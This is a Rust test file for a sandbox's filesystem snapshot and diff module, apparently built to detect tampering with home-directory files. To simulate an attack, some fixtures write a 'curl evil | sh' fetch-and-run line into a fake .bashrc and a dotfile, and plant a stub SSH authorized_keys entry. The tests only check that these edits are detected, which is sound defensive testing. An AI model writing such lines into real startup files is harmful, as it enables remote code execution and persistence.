//! Snapshots on real directory trees.

use sandbox::snapshot::{changes, diff, take, ChangeKind, RootStatus, ScanOptions, Snapshot};
use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

fn tree() -> (tempfile::TempDir, PathBuf) {
    let t = tempfile::tempdir().unwrap();
    let root = fs::canonicalize(t.path()).unwrap().join("home");
    fs::create_dir_all(root.join(".ssh")).unwrap();
    fs::write(root.join(".bashrc"), "alias ll='ls -l'\n").unwrap();
    fs::write(root.join(".ssh/config"), "Host *\n").unwrap();
    (t, root)
}

fn opts() -> ScanOptions {
    ScanOptions::default()
}

/// Make sure a rewrite lands on a different mtime even on coarse-timestamp file systems.
fn age(path: &Path) {
    let old = SystemTime::now() - Duration::from_secs(3600);
    fs::File::options()
        .write(true)
        .open(path)
        .unwrap()
        .set_modified(old)
        .unwrap();
}

#[test]
fn created_modified_and_deleted_paths_are_reported_but_not_their_parent_dirs() {
    let (_t, root) = tree();
    age(&root.join(".bashrc"));
    let before = take(std::slice::from_ref(&root), &opts());
    fs::write(root.join(".bashrc"), "curl evil | sh\n").unwrap();
    fs::write(root.join(".ssh/authorized_keys"), "ssh-ed25519 AAAA\n").unwrap();
    fs::remove_file(root.join(".ssh/config")).unwrap();
    let after = take(std::slice::from_ref(&root), &opts());
    let c = changes(&before, &after);
    let got: Vec<(PathBuf, ChangeKind)> = c.into_iter().map(|c| (c.path, c.kind)).collect();
    assert_eq!(
        got,
        vec![
            (root.join(".bashrc"), ChangeKind::Modified),
            (root.join(".ssh/authorized_keys"), ChangeKind::Created),
            (root.join(".ssh/config"), ChangeKind::Deleted),
        ]
    );
}

#[test]
fn an_unchanged_tree_has_no_diff_and_metadata_only_changes_show() {
    let (_t, root) = tree();
    let a = take(std::slice::from_ref(&root), &opts());
    let b = take(std::slice::from_ref(&root), &opts());
    assert!(diff(&a, &b).is_empty());
    fs::set_permissions(root.join(".ssh"), fs::Permissions::from_mode(0o777)).unwrap();
    let c = take(std::slice::from_ref(&root), &opts());
    assert_eq!(diff(&a, &c), vec![root.join(".ssh")]);
}

#[test]
fn symlinks_are_recorded_not_followed_and_loops_do_not_hang() {
    let (t, root) = tree();
    let outside = t.path().join("outside");
    fs::create_dir(&outside).unwrap();
    symlink(&outside, root.join("link")).unwrap();
    symlink(root.join("loop"), root.join("loop")).unwrap();
    symlink(&root, root.join(".ssh/up")).unwrap();
    let a = take(std::slice::from_ref(&root), &opts());
    fs::write(outside.join("f"), "x").unwrap();
    let b = take(std::slice::from_ref(&root), &opts());
    assert!(
        diff(&a, &b).is_empty(),
        "a change behind a link inside a root is not the root's"
    );
    fs::remove_file(root.join("link")).unwrap();
    symlink("/etc", root.join("link")).unwrap();
    let c = take(std::slice::from_ref(&root), &opts());
    assert_eq!(
        diff(&b, &c),
        vec![root.join("link")],
        "retargeting the link itself is seen"
    );
}

#[test]
fn a_symlinked_root_is_watched_through_its_target() {
    let (t, root) = tree();
    let dotfiles = t.path().join("dotfiles");
    fs::create_dir(&dotfiles).unwrap();
    fs::write(dotfiles.join("zshrc"), "x\n").unwrap();
    age(&dotfiles.join("zshrc"));
    symlink(dotfiles.join("zshrc"), root.join(".zshrc")).unwrap();
    let roots = [root.join(".zshrc")];
    let a = take(&roots, &opts());
    assert_eq!(a.roots.len(), 2, "the link and its target");
    fs::write(dotfiles.join("zshrc"), "curl evil | sh\n").unwrap();
    let b = take(&roots, &opts());
    assert_eq!(
        diff(&a, &b),
        vec![fs::canonicalize(dotfiles.join("zshrc")).unwrap()]
    );
}

#[test]
fn missing_and_unreadable_roots_are_noted_and_a_later_creation_is_reported() {
    let (_t, root) = tree();
    let missing = root.join("not-yet");
    let under_a_file = root.join(".bashrc/x");
    let too_long = root.join("n".repeat(5000));
    let roots = [missing.clone(), under_a_file, too_long];
    let a = take(&roots, &opts());
    assert_eq!(a.roots[0].status, RootStatus::Missing);
    assert_eq!(a.roots[1].status, RootStatus::Missing);
    assert!(matches!(a.roots[2].status, RootStatus::Unreadable(_)));
    let notes = a.notes();
    assert!(
        notes.iter().any(|n| n.contains("not-yet: does not exist")),
        "{notes:?}"
    );
    assert!(notes.iter().any(|n| n.contains("unreadable")), "{notes:?}");
    fs::create_dir(&missing).unwrap();
    fs::write(missing.join("payload"), "x").unwrap();
    let b = take(&roots, &opts());
    assert_eq!(diff(&a, &b), vec![missing.clone(), missing.join("payload")]);
}

#[test]
fn truncation_is_noted_and_never_invents_deletions() {
    let (_t, root) = tree();
    for i in 0..50 {
        fs::write(root.join(format!("f{i:02}")), "x").unwrap();
    }
    let small = ScanOptions {
        max_entries: 10,
        ..opts()
    };
    let a = take(std::slice::from_ref(&root), &small);
    assert_eq!(a.roots[0].entries.len(), 10);
    assert!(
        a.notes()
            .iter()
            .any(|n| n.contains("truncated after 10 entries")),
        "{:?}",
        a.notes()
    );
    let full = take(std::slice::from_ref(&root), &opts());
    assert!(
        diff(&a, &full).is_empty(),
        "entries past the horizon are unobserved, not deleted"
    );
    age(&root.join(".bashrc"));
    let b = take(std::slice::from_ref(&root), &small);
    assert_eq!(
        diff(&a, &b),
        vec![root.join(".bashrc")],
        "inside the horizon changes still show"
    );
}

#[test]
fn a_million_entry_root_is_bounded_in_time() {
    let (_t, root) = tree();
    for i in 0..2000 {
        fs::write(root.join(format!("f{i}")), "").unwrap();
    }
    let s = take(
        std::slice::from_ref(&root),
        &ScanOptions {
            max_entries: 100,
            ..opts()
        },
    );
    assert_eq!(s.entry_count(), 100);
}

#[test]
fn below_the_depth_limit_a_change_shows_as_its_boundary_directory() {
    let (_t, root) = tree();
    let deep = root.join("a/b/c");
    fs::create_dir_all(&deep).unwrap();
    let shallow = ScanOptions {
        max_depth: 2,
        ..opts()
    };
    let a = take(std::slice::from_ref(&root), &shallow);
    assert!(a.roots[0]
        .entries
        .iter()
        .all(|e| e.rel.components().count() <= 2));
    std::thread::sleep(Duration::from_millis(20));
    fs::write(root.join("a/b/new"), "x").unwrap();
    let b = take(std::slice::from_ref(&root), &shallow);
    assert_eq!(diff(&a, &b), vec![root.join("a/b")]);
}

#[test]
fn excluded_paths_are_neither_recorded_nor_descended() {
    let (_t, root) = tree();
    fs::create_dir_all(root.join(".config/google-chrome/Default")).unwrap();
    let o = ScanOptions {
        exclude: vec![root.join(".config/google-chrome")],
        ..opts()
    };
    let a = take(std::slice::from_ref(&root), &o);
    assert!(!a.roots[0]
        .entries
        .iter()
        .any(|e| e.rel.starts_with(".config/google-chrome")));
    fs::write(root.join(".config/google-chrome/Default/Cookies"), "x").unwrap();
    let b = take(std::slice::from_ref(&root), &o);
    assert!(diff(&a, &b).is_empty());
}

#[test]
fn serialization_round_trips_exactly_and_stays_compact() {
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt;
    let (_t, root) = tree();
    fs::write(root.join(OsStr::from_bytes(b"bad-\xff-name")), "x").unwrap();
    fs::create_dir_all(root.join("d/e")).unwrap();
    fs::write(root.join("d/e/f"), "x").unwrap();
    let a = take(std::slice::from_ref(&root), &opts());
    let json = serde_json::to_string(&a).unwrap();
    let back: Snapshot = serde_json::from_str(&json).unwrap();
    assert_eq!(back, a);
    assert!(diff(&back, &take(std::slice::from_ref(&root), &opts())).is_empty());
    assert!(
        !json.contains(&root.join("d/e").display().to_string()),
        "paths are stored relative"
    );
}

#[test]
fn a_corrupt_stored_snapshot_is_an_error_not_a_panic() {
    for bad in [
        r#"{"v":1,"max_depth":3,"roots":[{"root":"/x","status":{"state":"scanned"},"groups":[["",[["a/b",1,2,3,4,5]]]]}]}"#,
        "{",
        "[]",
    ] {
        assert!(serde_json::from_str::<Snapshot>(bad).is_err(), "{bad}");
    }
}

#[test]
fn a_parallel_walk_equals_the_sequential_one() {
    let (_t, root) = tree();
    for d in 0..12 {
        for s in 0..5 {
            let dir = root.join(format!("d{d}/s{s}"));
            fs::create_dir_all(&dir).unwrap();
            for f in 0..7 {
                fs::write(dir.join(format!("f{f}")), "x").unwrap();
            }
        }
    }
    symlink("/etc", root.join("d3/link")).unwrap();
    fs::create_dir_all(root.join("d5/s1/deep/deeper")).unwrap();
    let excluded = root.join("d7");
    for threads in [2, 3, 8] {
        for max_depth in [1, 2, 32] {
            let seq = ScanOptions {
                threads: 1,
                max_depth,
                exclude: vec![excluded.clone()],
                ..opts()
            };
            let par = ScanOptions {
                threads,
                ..seq.clone()
            };
            let a = take(std::slice::from_ref(&root), &seq);
            let b = take(std::slice::from_ref(&root), &par);
            assert_eq!(a, b, "threads={threads} max_depth={max_depth}");
            assert!(!a.roots[0].entries.iter().any(|e| e.rel.starts_with("d7")));
        }
    }
    // Past the bound the parallel walk hands over to the sequential one: same prefix.
    let seq = take(
        std::slice::from_ref(&root),
        &ScanOptions {
            threads: 1,
            max_entries: 100,
            ..opts()
        },
    );
    let par = take(
        std::slice::from_ref(&root),
        &ScanOptions {
            threads: 4,
            max_entries: 100,
            ..opts()
        },
    );
    assert_eq!(seq, par);
    assert!(par.roots[0].truncated.is_some());
}
